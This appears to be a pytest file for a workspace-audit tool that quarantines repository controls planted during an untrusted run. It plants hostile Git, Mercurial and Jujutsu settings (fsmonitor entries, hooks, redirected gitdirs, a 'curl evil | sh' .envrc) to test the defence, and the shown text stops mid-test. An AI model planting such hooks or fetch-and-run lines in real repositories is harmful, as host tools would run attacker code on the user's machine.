"""The audit and the live watch (corral.audit, corral.livewatch), without a sandbox: a
tree changed the way a payload would change it, then audited.  As root and as the test
user (a script run as that identity, through fsops as the tree's owner); each with its
control: what was there at launch, unchanged, is left alone.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

from conftest import Identity, _ensure_user

PRELUDE = """
import json, os, subprocess, sys, time
from corral import audit
def git(cwd, *args):
    subprocess.run(["git", "-c", "init.defaultBranch=main", *args], cwd=cwd, check=True,
                   capture_output=True)
def later():
    time.sleep(0.02)  # ctime granularity: what follows is "during the run"
def hg(cwd, *args):  # host Mercurial, with no config but the repository's own
    return subprocess.run(["hg", "--config", "ui.username=t", *args], cwd=cwd,
                          capture_output=True, text=True, env=dict(os.environ, HGRCPATH=""))
def hg_hook(marks, name):  # an hgrc whose hook leaves a mark when hg status runs it
    return f"[hooks]\\npre-status = touch {marks}/{name}\\n"
def workspace(base):  # a test's tree, its quarantine and a folder for marks, in base
    made = [os.path.join(base, n) for n in ("ws", "quarantine", "marks")]
    for d in made:
        os.mkdir(d)
    return made
def write(path, text, mode=0o755):  # a file, its folders made first
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)
def taken(marks):  # the marks left since the last look, taken away
    ran = sorted(os.listdir(marks))
    for m in ran:
        os.unlink(os.path.join(marks, m))
    return ran
"""


def as_identity(who: Identity, body: str) -> dict[str, object]:
    proc = subprocess.run([*who.prefix(), "-c", PRELUDE + textwrap.dedent(body)],
                          env=who.environ(), cwd=who.tmp, capture_output=True, text=True,
                          timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    result: dict[str, object] = json.loads(proc.stdout.strip().splitlines()[-1])
    return result


def test_a_new_repository_loses_what_git_would_run(who: Identity) -> None:
    r = as_identity(who, f"""
        top = {str(who.tmp)!r}
        q = os.path.join(top, "quarantine"); os.mkdir(q)
        git(top, "init", "-q", "old")
        with open(os.path.join(top, "old/.git/config"), "a") as f:
            f.write("[core]\\n\\tfsmonitor = ./evil\\n")  # the user's own, at launch
        census = audit.Census(((top, None),), audit.protected_names(),
                              gitdirs=frozenset({{os.path.join(top, "old/.git")}}))
        later()
        git(top, "init", "-q", "clone")  # a clone: remote and branches only
        git(top + "/clone", "remote", "add", "origin", "https://example.invalid/x.git")
        git(top, "init", "-q", "--bare", "evil.git")
        with open(os.path.join(top, "evil.git/config"), "a") as f:
            f.write("[core]\\n\\tfsmonitor = ./evil\\n")
        for hook in ("clone/.git/hooks/pre-commit", "evil.git/hooks/post-receive"):
            with open(os.path.join(top, hook), "w") as f:
                f.write("#!/bin/sh\\n")
        with open(os.path.join(top, ".envrc"), "w") as f:
            f.write("curl evil | sh\\n")
        actions = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"did": sorted((os.path.relpath(a.path, top), a.did)
                                         for a in actions),
                          "left": sorted(os.listdir(top)), "quarantine": len(os.listdir(q))}}))
    """)
    assert r["did"] == [[".envrc", "quarantined"], ["clone/.git/hooks/pre-commit", "quarantined"],
                        ["evil.git/config", "quarantined"],
                        ["evil.git/hooks/post-receive", "quarantined"]], r
    assert r["quarantine"] == 4 and ".envrc" not in r["left"]  # type: ignore[operator]
    # Control: the clone's inert config and the repository that existed (fsmonitor and
    # all, unchanged since launch) are left as they were: they were not planted.


def test_a_reused_workspace_gets_its_control_files_back(who: Identity) -> None:
    r = as_identity(who, f"""
        top = os.path.join({str(who.tmp)!r}, "ws"); os.mkdir(top)
        q = os.path.join({str(who.tmp)!r}, "quarantine"); os.mkdir(q)
        git(top, "init", "-q", ".")
        with open(os.path.join(top, ".git/hooks/pre-commit"), "w") as f:
            f.write("#!/bin/sh\\necho team hook\\n")
        with open(os.path.join(top, ".vscode"), "w") as f:
            f.write("settings\\n")
        config = open(os.path.join(top, ".git/config")).read()
        census = audit.census_of_tree(top, None, audit.protected_names())
        bare = audit.Census(census.trees, census.names, census.gitdirs,
                            protected=census.protected, started_ns=census.started_ns)
        later()
        for rel in (".git/config", ".git/hooks/pre-commit", ".vscode"):
            with open(os.path.join(top, rel), "a") as f:
                f.write("[core]\\n\\tfsmonitor = ./evil\\n")
        actions = audit.Auditor(census, lambda: q).run()
        restored = open(os.path.join(top, ".git/config")).read() == config
        hook = open(os.path.join(top, ".git/hooks/pre-commit")).read()
        # Control: the same changes with no copies taken at launch are only quarantined.
        for rel in (".git/config",):
            with open(os.path.join(top, rel), "a") as f:
                f.write("[core]\\n\\tfsmonitor = ./evil\\n")
        again = audit.Auditor(bare, lambda: q).run()
        print(json.dumps({{"restored": restored, "hook": hook,
                          "did": sorted({{a.did for a in actions}}),
                          "again": sorted({{a.did for a in again}}),
                          "config_left": os.path.exists(os.path.join(top, ".git/config"))}}))
    """)
    assert r["restored"] and r["hook"] == "#!/bin/sh\necho team hook\n", r
    assert r["did"] == ["quarantined", "restored"]
    assert r["again"] == ["quarantined"] and r["config_left"] is False


def test_a_workspace_made_a_repository_with_a_head_git_reads_loosely_is_audited(
        who: Identity) -> None:
    """Review 12: git takes ``<40 hex digits> junk`` for a detached HEAD, but the audit
    wanted the whole line to be an object id, so a payload that made its reused
    workspace's top a repository (objects/, refs/, that HEAD, a hook, a config) left
    both for host git, which ran the hook.  Each HEAD is judged as git judges it: the
    hook and the config go.  Control: a HEAD git itself refuses is no repository, and
    files of those names stay."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        out = {{}}
        for name, head in (("loose", "0" * 40 + " junk\\n"), ("refused", "junk\\n")):
            top = os.path.join(base, name); os.mkdir(top)
            census = audit.census_of_tree(top, None, audit.protected_names())
            later()
            for folder in ("objects", "refs", "hooks"):
                os.mkdir(os.path.join(top, folder))
            with open(os.path.join(top, "HEAD"), "w") as f:
                f.write(head)
            with open(os.path.join(top, "config"), "w") as f:
                f.write("[core]\\n\\tpager = evil\\n")
            with open(os.path.join(top, "hooks/pre-receive"), "w") as f:
                f.write("#!/bin/sh\\nevil\\n")
            git_takes = subprocess.run(["git", "-C", top, "rev-parse", "--git-dir"],
                                       capture_output=True, text=True).returncode == 0
            done = audit.Auditor(census, lambda: q).run()
            out[name] = {{"git": git_takes,
                         "quarantined": sorted(os.path.relpath(a.path, top) for a in done
                                               if a.did == "quarantined")}}
        print(json.dumps(out))
    """)
    assert r["loose"] == {"git": True, "quarantined": ["config", "hooks/pre-receive"]}, r
    assert r["refused"] == {"git": False, "quarantined": []}, r  # the control


def test_a_git_file_put_in_place_of_a_git_directory_or_rewritten_is_quarantined(
        who: Identity) -> None:
    """Review 13: the payload moved a reused workspace's .git into a folder inside a new
    .git (which no walk audits), left a .git file pointing there and a core.fsmonitor in
    that config, and host `git status` ran it: a .git file at a path the launch had
    protected was left alone.  Now one put in place of a git directory, or rewritten (a
    submodule's, pointed elsewhere), goes, and a rewritten one gets its launch content
    back.  Control: before the audit host git follows each plant."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws"); os.mkdir(top)
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        git(top, "init", "-q", ".")
        os.makedirs(os.path.join(top, "sub"))
        os.makedirs(os.path.join(top, ".git/modules/sub"))
        git(os.path.join(top, ".git/modules/sub"), "init", "-q", "--bare", ".")
        sub_file = os.path.join(top, "sub/.git")
        with open(sub_file, "w") as f:
            f.write("gitdir: ../.git/modules/sub\\n")
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        os.makedirs(os.path.join(top, "a/.git"))
        os.rename(os.path.join(top, ".git"), os.path.join(top, "a/.git/x"))
        with open(os.path.join(top, ".git"), "w") as f:
            f.write("gitdir: a/.git/x\\n")
        os.makedirs(os.path.join(top, "b/.git"))
        git(os.path.join(top, "b/.git"), "init", "-q", "--bare", "y")
        with open(sub_file, "w") as f:
            f.write("gitdir: ../b/.git/y\\n")

        def follows(where):
            p = subprocess.run(["git", "-C", where, "rev-parse", "--absolute-git-dir"],
                               capture_output=True, text=True)
            return os.path.relpath(p.stdout.strip(), top) if p.returncode == 0 else None

        before = [follows(top), follows(os.path.join(top, "sub"))]
        done = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"before": before,
                          "done": sorted((os.path.relpath(a.path, top), a.did) for a in done),
                          "sub": open(sub_file).read(),
                          "top": os.path.exists(os.path.join(top, ".git"))}}))
    """)
    assert r["before"] == ["a/.git/x", "b/.git/y"], r  # the control: both plants live
    assert r["done"] == [[".git", "quarantined"], ["sub/.git", "quarantined"],
                         ["sub/.git", "restored"]], r
    assert r["sub"] == "gitdir: ../.git/modules/sub\n" and r["top"] is False, r


def test_a_bare_repository_reused_as_the_workspace_keeps_its_hooks(who: Identity) -> None:
    """A bare repository given as the workspace itself: the audit takes its top for a git
    directory, but the census did not record it, so a run that changed nothing had the
    user's own hooks quarantined as a new repository's.  Now its controls are kept: a run
    that changed nothing leaves them, one that changed a hook has it quarantined and the
    launch's content put back, and a new hook goes.  Control: the census without the
    top's git directory takes the unchanged hook away."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top = os.path.join(base, "bare.git")
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        git(base, "init", "-q", "--bare", "bare.git")
        hook = os.path.join(top, "hooks/post-commit")
        with open(hook, "w") as f:
            f.write("#!/bin/sh\\necho mine\\n")
        os.chmod(hook, 0o755)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        quiet = audit.Auditor(census, lambda: q).run()  # a run that changed nothing
        kept = open(hook).read()
        with open(hook, "a") as f:
            f.write("evil\\n")
        with open(os.path.join(top, "hooks/pre-commit"), "w") as f:
            f.write("evil\\n")
        changed = audit.Auditor(census, lambda: q).run()
        after = {{"back": open(hook).read() == kept,
                  "new": os.path.exists(os.path.join(top, "hooks/pre-commit"))}}
        blind = audit.Census(census.trees, census.names, frozenset(),
                             protected=census.protected, backups={{}},
                             started_ns=census.started_ns)
        lost = audit.Auditor(blind, lambda: q).run()
        print(json.dumps({{"gitdirs": [os.path.relpath(p, top) for p in census.gitdirs],
                          "quiet": [a.did for a in quiet], "kept": kept,
                          "changed": sorted((os.path.relpath(a.path, top), a.did)
                                            for a in changed), **after,
                          "lost": sorted(os.path.relpath(a.path, top) for a in lost
                                         if a.did == "quarantined"),
                          "gone": not os.path.exists(hook)}}))
    """)
    assert r["gitdirs"] == ["."] and r["quiet"] == [], r
    assert r["kept"] == "#!/bin/sh\necho mine\n", r
    assert r["changed"] == [["hooks/post-commit", "quarantined"],
                            ["hooks/post-commit", "restored"],
                            ["hooks/pre-commit", "quarantined"]], r
    assert r["back"] and not r["new"], r
    assert "hooks/post-commit" in r["lost"] and r["gone"], r  # type: ignore[operator]


def test_a_reused_workspaces_submodule_and_worktree_keep_their_git_files(
        who: Identity) -> None:
    """Review 10: the census of a reused workspace did not look inside .git, so the audit
    took a submodule's git directory for one made during the run and quarantined the
    user's own config (core.worktree and all) after a run that did nothing."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws"); os.mkdir(top)
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        ident = ["-c", "user.name=a", "-c", "user.email=a@b"]
        git(base, "init", "-q", "lib")
        open(os.path.join(base, "lib/f"), "w").close()
        git(base + "/lib", "add", "f"); git(base + "/lib", *ident, "commit", "-qm", "l")
        git(top, "init", "-q", ".")
        open(os.path.join(top, "g"), "w").close()
        git(top, "add", "g"); git(top, *ident, "commit", "-qm", "p")
        git(top, "-c", "protocol.file.allow=always", "submodule", "add", "-q", "../lib", "sub")
        git(top, "worktree", "add", "-q", "wt")
        sub, wt = os.path.join(top, ".git/modules/sub"), os.path.join(top, ".git/worktrees/wt")
        before = {{p: open(p).read() for p in (sub + "/config", wt + "/commondir")}}
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        quiet = audit.Auditor(census, lambda: q).run()  # a run that changed nothing
        kept = {{p: os.path.exists(p) and open(p).read() == t for p, t in before.items()}}
        with open(sub + "/config", "a") as f:
            f.write("[core]\\n\\tfsmonitor = ./evil\\n")
        changed = audit.Auditor(census, lambda: q).run()
        back = open(sub + "/config").read() == before[sub + "/config"]
        # Control: the census as it was before the fix, with no nested git directory.
        blind = audit.Census(census.trees, census.names, census.gitdirs,
                             protected=census.protected, backups=census.backups,
                             started_ns=census.started_ns)
        lost = audit.Auditor(blind, lambda: q).run()
        print(json.dumps({{"linked": sorted(os.path.relpath(p, top) for p in census.linked),
                          "quiet": [a.did for a in quiet], "kept": list(kept.values()),
                          "changed": sorted({{a.did for a in changed}}), "back": back,
                          "lost": sorted(os.path.relpath(a.path, top) for a in lost
                                         if a.did == "quarantined"),
                          "gone": not os.path.exists(sub + "/config")}}))
    """)
    assert r["linked"] == [".git/modules/sub", ".git/worktrees/wt"], r
    assert r["quiet"] == [] and r["kept"] == [True, True], r
    assert r["changed"] == ["quarantined", "restored"] and r["back"], r
    # Control: without the nested census, the unchanged files are taken away.
    assert ".git/modules/sub/config" in r["lost"] and r["gone"], r  # type: ignore[operator]


def test_a_hooks_folder_renamed_into_a_reused_workspaces_git_is_audited(who: Identity) -> None:
    """Review 11: a folder made before the run, renamed into .git during it, keeps its
    files' change times; the census's folder identities tell it apart.  Control: the same
    census without them keeps the planted hook."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws"); os.mkdir(top)
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        git(top, "init", "-q", ".")
        os.mkdir(os.path.join(top, "stash"))  # an earlier run's, ordinary folder
        with open(os.path.join(top, "stash/pre-commit"), "w") as f:
            f.write("#!/bin/sh\\necho planted\\n")
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        os.rename(os.path.join(top, ".git/hooks"), os.path.join(top, "old-hooks"))
        os.rename(os.path.join(top, "stash"), os.path.join(top, ".git/hooks"))
        blind = audit.Census(census.trees, census.names, census.gitdirs,
                             protected=census.protected, backups=census.backups,
                             started_ns=census.started_ns)
        kept = [a.did for a in audit.Auditor(blind, lambda: q).run()]
        seen = [a.did for a in audit.Auditor(census, lambda: q).run()
                if a.path.endswith("pre-commit")]
        print(json.dumps({{"kept": kept, "seen": seen,
                          "left": os.path.exists(os.path.join(top, ".git/hooks/pre-commit"))}}))
    """)
    assert "quarantined" in r["seen"] and r["left"] is False, r  # type: ignore[operator]
    assert "quarantined" not in r["kept"], r  # type: ignore[operator]  # the control


def test_set_id_bits_set_during_the_run_are_cleared(who: Identity) -> None:
    r = as_identity(who, f"""
        top = {str(who.tmp)!r}
        for name in ("before", "during"):
            with open(os.path.join(top, name), "w") as f:
                f.write("x")
        os.chmod(os.path.join(top, "before"), 0o4755)  # the user's own, at launch
        later()
        census = audit.Census(((top, None),), audit.protected_names())
        later()
        os.chmod(os.path.join(top, "during"), 0o6755)
        actions = audit.Auditor(census, lambda: "/nonexistent").run()
        modes = {{n: os.stat(os.path.join(top, n)).st_mode & 0o7777
                  for n in ("before", "during")}}
        print(json.dumps({{"modes": modes, "did": [a.did for a in actions]}}))
    """)
    assert r["modes"] == {"before": 0o4755, "during": 0o755}, r  # control: "before" kept
    assert r["did"] == ["cleared set-id bits of"]


def test_placeholders_go_while_still_empty(who: Identity) -> None:
    r = as_identity(who, f"""
        top = {str(who.tmp)!r}
        made = []
        for name in ("empty", "written"):
            p = os.path.join(top, name)
            open(p, "w").close()
            st = os.lstat(p)
            made.append((p, st.st_dev, st.st_ino))
        with open(os.path.join(top, "written"), "w") as f:
            f.write("the user's own words\\n")
        census = audit.Census(((top, None),), audit.protected_names(),
                              placeholders=tuple(made))
        audit.Auditor(census, lambda: "/nonexistent").run()
        print(json.dumps(sorted(os.listdir(top))))
    """)
    assert "empty" not in r and "written" in r  # type: ignore[operator]


def test_the_live_watch_removes_what_appears_at_once(who: Identity) -> None:
    r = as_identity(who, f"""
        from corral.livewatch import LiveWatch
        top = {str(who.tmp)!r}
        git(top, "init", "-q", "repo")
        gitdir = os.path.join(top, "repo/.git")
        with open(os.path.join(gitdir, "config.worktree"), "w") as f:
            f.write("[core]\\n")  # there at launch: never removed
        windows = []
        with LiveWatch([(gitdir, top, None)]) as watch:
            for i in range(20):
                start = time.monotonic()
                with open(os.path.join(gitdir, "commondir.lock"), "w") as f:
                    f.write("../../elsewhere\\n")
                os.rename(os.path.join(gitdir, "commondir.lock"),
                          os.path.join(gitdir, "commondir"))  # as git writes it
                while os.path.exists(os.path.join(gitdir, "commondir")):
                    if time.monotonic() - start > 10:
                        break
                    time.sleep(0.0005)
                windows.append(time.monotonic() - start)
        kept = os.path.exists(os.path.join(gitdir, "config.worktree"))
        # Control: with the watch closed, nothing removes it.
        open(os.path.join(gitdir, "commondir"), "w").close()
        time.sleep(0.5)
        print(json.dumps({{"windows": windows, "kept": kept, "removed": len(watch.actions),
                          "after": os.path.exists(os.path.join(gitdir, "commondir"))}}))
    """)
    assert max(r["windows"]) < 10 and r["removed"] == 20, r  # type: ignore[arg-type]
    assert r["kept"] and r["after"]


def test_quarantine_across_file_systems_copies_then_removes(who: Identity) -> None:
    """/dev/shm is another file system: a rename gives EXDEV, the move copies by
    descriptor; a FIFO, which cannot be copied, is refused and stays."""
    shm = Path("/dev/shm") / f"corral-test-q-{os.getpid()}-{who.name}"
    shm.mkdir()
    os.chown(shm, who.uid, who.gid)
    try:
        r = as_identity(who, f"""
            from corral import fsops, fswalk
            top = {str(who.tmp)!r}
            os.makedirs(os.path.join(top, "d/sub"))
            with open(os.path.join(top, "d/sub/f"), "w") as f:
                f.write("content")
            os.symlink("/etc/passwd", os.path.join(top, "d/link"))
            os.mkfifo(os.path.join(top, "fifo"))
            with fsops.Tree(top) as src, fsops.Tree({str(shm)!r}) as dst:
                fswalk.move(src, "d", dst, "d")
                try:
                    fswalk.move(src, "fifo", dst, "fifo")
                    fifo = "moved"
                except OSError as e:
                    fifo = e.errno
            print(json.dumps({{"gone": not os.path.exists(os.path.join(top, "d")),
                              "copied": open({str(shm)!r} + "/d/sub/f").read(),
                              "link": os.readlink({str(shm)!r} + "/d/link"), "fifo": fifo,
                              "fifo_left": os.path.exists(os.path.join(top, "fifo"))}}))
        """)
    finally:
        subprocess.run(["rm", "-rf", str(shm)], check=True)
    assert r == {"gone": True, "copied": "content", "link": "/etc/passwd", "fifo": 18,
                 "fifo_left": True}, r


def test_a_directory_too_big_for_one_part_is_audited_whole(who: Identity) -> None:
    """The audit reads a directory a part (audit.CHUNK entries) at a time, so that a payload's
    million names cannot grow the launcher (test_disk's hard-link flood measures that); a
    bare repository split across parts, a set-id file and a planted .envrc are still found.
    Parts of two entries here, so that no part can hold all of a repository's markers."""
    r = as_identity(who, f"""
        from corral import fsops, repos
        audit.CHUNK = 2
        top = {str(who.tmp)!r} + "/big"
        os.mkdir(top)
        q = os.path.join({str(who.tmp)!r}, "quarantine-big"); os.mkdir(q)
        census = audit.Census(((top, None),), audit.protected_names())
        later()
        git(top, "init", "-q", "--bare", "padded.git")
        for i in range(20):
            open(os.path.join(top, f"pad-{{i:02}}"), "w").close()
        with open(os.path.join(top, "padded.git/hooks/post-receive"), "w") as f:
            f.write("#!/bin/sh\\n")
        with open(os.path.join(top, ".envrc"), "w") as f:
            f.write("x\\n")
        os.chmod(os.path.join(top, "pad-07"), 0o4755)
        with fsops.Tree(top) as tree:  # the control: split, no part looks like a repository
            split = not any(repos.is_git_dir({{e.name for e in part}})
                            for part in tree.scandir_chunks("padded.git", size=2))
        actions = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"split": split, "did": sorted((os.path.relpath(a.path, top), a.did)
                                                         for a in actions)}}))
    """)
    did = r["did"]
    assert r["split"] is True, r
    assert [".envrc", "quarantined"] in did, r  # type: ignore[operator]
    assert ["padded.git/hooks/post-receive", "quarantined"] in did, r  # type: ignore[operator]
    assert ["pad-07", "cleared set-id bits of"] in did, r  # type: ignore[operator]
    # Control: the padding itself is left alone (nothing trusted by tools on the host).
    assert not any(p.startswith("pad-") and p != "pad-07" for p, _ in did), r  # type: ignore[union-attr]


def test_in_progress_state_is_judged_by_its_commands(who: Identity) -> None:
    """A rebase the user left with exec lines stays while its commands are the launch's;
    a line that merely starts like one of them, or a new strategy, takes it away."""
    r = as_identity(who, f"""
        from corral import gitstate
        top = {str(who.tmp)!r}
        q = os.path.join(top, "quarantine"); os.mkdir(q)
        own = "exec make test " + "x" * 100
        for name in ("kept", "longer", "strategy"):
            git(top, "init", "-q", name)
            os.mkdir(os.path.join(top, name, ".git/rebase-merge"))
            with open(os.path.join(top, name, ".git/rebase-merge/git-rebase-todo"), "w") as f:
                f.write("pick 1234 a\\n" + own + "\\n")
        gitdirs = frozenset(os.path.join(top, n, ".git") for n in ("kept", "longer", "strategy"))
        census = audit.Census(((top, None),), audit.protected_names(), gitdirs=gitdirs,
                              commands=gitstate.at_launch([(top, None)], gitdirs))
        later()
        with open(os.path.join(top, "kept/.git/rebase-merge/git-rebase-todo"), "w") as f:
            f.write(own + "\\n")  # the agent went on with the user's rebase
        with open(os.path.join(top, "longer/.git/rebase-merge/git-rebase-todo"), "a") as f:
            f.write(own + "; touch MARK\\n")
        with open(os.path.join(top, "strategy/.git/rebase-merge/strategy"), "w") as f:
            f.write("x/../evil\\n")
        actions = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"did": sorted((os.path.relpath(a.path, top), a.did)
                                         for a in actions)}}))
    """)
    assert r["did"] == [["longer/.git/rebase-merge", "quarantined"],
                        ["strategy/.git/rebase-merge", "quarantined"]], r
    # Control: "kept", rewritten during the run with the launch's own command, stays.


def test_what_redirects_host_git_is_judged_by_when_it_changed(who: Identity) -> None:
    """Alternates, legacy remotes, replace refs: what changed during the run goes (a link
    on the way to alternates too, git follows it); a packed-refs loses only its replace
    refs and their peeled lines.  Control: the user's own legacy remote, there at launch,
    stays, and so do the run's branch and tag."""
    a, b = "1" * 40, "2" * 40
    r = as_identity(who, f"""
        top = {str(who.tmp)!r}
        q = os.path.join(top, "quarantine"); os.mkdir(q)
        git(top, "init", "-q", "p")
        g = os.path.join(top, "p/.git")
        os.makedirs(g + "/remotes")
        with open(g + "/remotes/upstream", "w") as f:
            f.write("URL: /srv/theirs.git\\n")
        census = audit.Census(((top, None),), audit.protected_names(), gitdirs=frozenset({{g}}))
        later()
        with open(g + "/branches/origin", "w") as f:
            f.write("/tmp/evil.git\\n")
        os.makedirs(g + "/refs/replace/x")
        with open(g + "/refs/replace/x/{a}", "w") as f:
            f.write("{b}\\n")
        os.rename(g + "/objects/info", g + "/objects/real-info")
        os.symlink("real-info", g + "/objects/info")
        with open(g + "/objects/real-info/alternates", "w") as f:
            f.write("/elsewhere/objects\\n")
        with open(g + "/packed-refs", "w") as f:
            f.write("# pack-refs with: peeled fully-peeled sorted \\n{a} refs/heads/main\\n"
                    "{b} refs/replace/{a}\\n^{a}\\n{a} refs/tags/v1\\n^{b}\\n")
        actions = audit.Auditor(census, lambda: q).run()
        print(json.dumps({{"did": sorted((os.path.relpath(a.path, g), a.did)
                                         for a in actions),
                          "packed": open(g + "/packed-refs").read(),
                          "upstream": os.path.exists(g + "/remotes/upstream")}}))
    """)
    assert r["did"] == [["branches/origin", "quarantined"], ["objects/info", "quarantined"],
                        ["packed-refs", "quarantined"], ["packed-refs", "restored"],
                        [f"refs/replace/x/{a}", "quarantined"]], r
    assert r["packed"] == (f"# pack-refs with: peeled fully-peeled sorted \n{a} refs/heads/"
                           f"main\n{a} refs/tags/v1\n^{b}\n"), r
    assert r["upstream"], r


def test_mercurial_and_jujutsu_controls_planted_in_a_reused_workspace_go(
        who: Identity) -> None:
    """Mercurial runs the hooks of ``.hg/hgrc`` on ``hg status``, reads
    ``hgrc-not-shared`` beside it, and through ``sharedpath`` (with ``shared`` in
    ``requires``) uses another store and, share-safe, that store's config: here one hidden
    inside a ``.git``, which no walk audits.  Each one planted or changed during the run
    goes (the user's own hgrc gets its launch content back), and so do Jujutsu's repository
    and workspace configs and a workspace pointer (jj's own source is the reference for
    those: jj is not installed here).  Controls: before the audit host ``hg status`` runs
    every planted hook; a hook the user's hgrc held at launch, unchanged, stays and runs."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws"); os.mkdir(top)
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        marks = os.path.join(base, "marks"); os.mkdir(marks)
        def hook(name):
            return hg_hook(marks, name)
        for d in ("mine", "shared", "other", "calm"):
            hg(top, "init", d)
        with open(os.path.join(top, "calm/.hg/hgrc"), "w") as f:
            f.write(hook("users"))
        with open(os.path.join(top, "mine/.hg/hgrc"), "w") as f:
            f.write("[ui]\\nusername = me\\n")
        mine = open(os.path.join(top, "mine/.hg/hgrc")).read()
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        with open(os.path.join(top, "mine/.hg/hgrc"), "a") as f:
            f.write(hook("changed"))
        hg(top, "init", "new")
        with open(os.path.join(top, "new/.hg/hgrc"), "w") as f:
            f.write(hook("new"))
        with open(os.path.join(top, "other/.hg/hgrc-not-shared"), "w") as f:
            f.write(hook("notshared"))
        hidden = os.path.join(top, "g/.git/x")
        os.makedirs(hidden)
        hg(hidden, "init", ".")
        with open(os.path.join(hidden, ".hg/hgrc"), "w") as f:
            f.write(hook("source"))
        with open(os.path.join(top, "shared/.hg/requires"), "a") as f:
            f.write("shared\\n")
        with open(os.path.join(top, "shared/.hg/sharedpath"), "w") as f:
            f.write(os.path.join(hidden, ".hg"))
        os.makedirs(os.path.join(top, "j/.jj/repo"))
        os.makedirs(os.path.join(top, "k/.jj"))
        for rel in ("j/.jj/repo/config.toml", "j/.jj/repo/config-id",
                    "j/.jj/workspace-config.toml", "k/.jj/repo"):
            with open(os.path.join(top, rel), "w") as f:
                f.write("[ui]\\npager = 'evil'\\n")
        def status():
            for d in ("mine", "new", "other", "shared", "calm"):
                hg(os.path.join(top, d), "status")
            ran = sorted(os.listdir(marks))
            for m in ran:
                os.unlink(os.path.join(marks, m))
            return ran
        before = status()
        actions = audit.Auditor(census, lambda: q).run()
        after = status()
        kept = open(os.path.join(top, "mine/.hg/hgrc")).read()
        print(json.dumps({{"before": before, "after": after, "kept": kept == mine,
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions)}}))
    """)
    assert r["before"] == ["changed", "new", "notshared", "source", "users"], r
    assert r["after"] == ["users"] and r["kept"], r
    # The store hidden in a folder inside a .git is audited too (review 29: the walks go
    # into .git folders like any other).
    assert r["did"] == [["g/.git/x/.hg/hgrc", "quarantined"],
                        ["j/.jj/repo/config-id", "quarantined"],
                        ["j/.jj/repo/config.toml", "quarantined"],
                        ["j/.jj/workspace-config.toml", "quarantined"],
                        ["k/.jj/repo", "quarantined"],
                        ["mine/.hg/hgrc", "quarantined"], ["mine/.hg/hgrc", "restored"],
                        ["new/.hg/hgrc", "quarantined"],
                        ["other/.hg/hgrc-not-shared", "quarantined"],
                        ["shared/.hg/sharedpath", "quarantined"]], r


def test_a_control_folder_swapped_in_or_linked_is_not_taken_for_the_launchs(
        who: Identity) -> None:
    """Review 25: copies made by an earlier run keep their files' old change times, so a
    ``.hg`` (its ``hgrc`` with a hook) or a ``.vscode`` renamed into place passed for the
    launch's, and a ``.hg`` made a link to a folder of any other name was nobody's
    control; host ``hg status`` ran both hooks.  The census records the identity of each
    protected path and of every folder beneath a protected folder, and a ``.hg`` or
    ``.jj`` that is not a folder is a control.  Controls: before the audit host hg runs
    both hooks; a census without the identities keeps the swapped-in hgrc and tasks."""
    r = as_identity(who, f"""
        import shutil
        base = {str(who.tmp)!r}
        top = os.path.join(base, "ws"); os.mkdir(top)
        q = os.path.join(base, "quarantine"); os.mkdir(q)
        marks = os.path.join(base, "marks"); os.mkdir(marks)
        def hook(name):
            return hg_hook(marks, name)
        def at(rel):
            return os.path.join(top, rel)
        def plant():  # an earlier run's copies, then this run's swaps
            for d in ("mine", "linked"):
                if not os.path.isdir(at(d)):
                    hg(top, "init", d)
            with open(at("mine/.hg/hgrc"), "w") as f:
                f.write("[ui]\\nusername = me\\n")
            os.makedirs(at(".vscode"), exist_ok=True)
            with open(at(".vscode/tasks.json"), "w") as f:
                f.write("mine\\n")
            shutil.copytree(at("mine/.hg"), at("stash-hg"), symlinks=True)
            with open(at("stash-hg/hgrc"), "a") as f:
                f.write(hook("swapped"))
            shutil.copytree(at("mine/.hg"), at("store"), symlinks=True)
            with open(at("store/hgrc"), "w") as f:
                f.write(hook("linked"))
            shutil.copytree(at(".vscode"), at("stash-vs"))
            with open(at("stash-vs/tasks.json"), "w") as f:
                f.write("evil\\n")
        def swap():
            later()
            os.rename(at("mine/.hg"), at("mine/.hg-old"))
            os.rename(at("stash-hg"), at("mine/.hg"))
            shutil.rmtree(at("linked/.hg"))
            os.symlink("../store", at("linked/.hg"))
            os.rename(at(".vscode"), at(".vscode-old"))
            os.rename(at("stash-vs"), at(".vscode"))
        def status():
            for d in ("mine", "linked"):
                hg(at(d), "status")
            ran = sorted(os.listdir(marks))
            for m in ran:
                os.unlink(os.path.join(marks, m))
            return ran
        def reset():
            for d in os.listdir(top):
                p = at(d)
                shutil.rmtree(p) if os.path.isdir(p) and not os.path.islink(p) else os.unlink(p)
        out = {{}}
        for mode in ("identities", "none"):
            reset()
            plant()
            census = audit.census_of_tree(top, None, audit.protected_names())
            if mode == "none":
                from corral.record import replace
                census = replace(census, folders={{}})
            swap()
            out[mode + "-before"] = status()
            actions = audit.Auditor(census, lambda: q).run()
            out[mode + "-after"] = status()
            out[mode + "-tasks"] = open(at(".vscode/tasks.json")).read() \\
                if os.path.exists(at(".vscode/tasks.json")) else None
            out[mode + "-hgrc"] = open(at("mine/.hg/hgrc")).read()
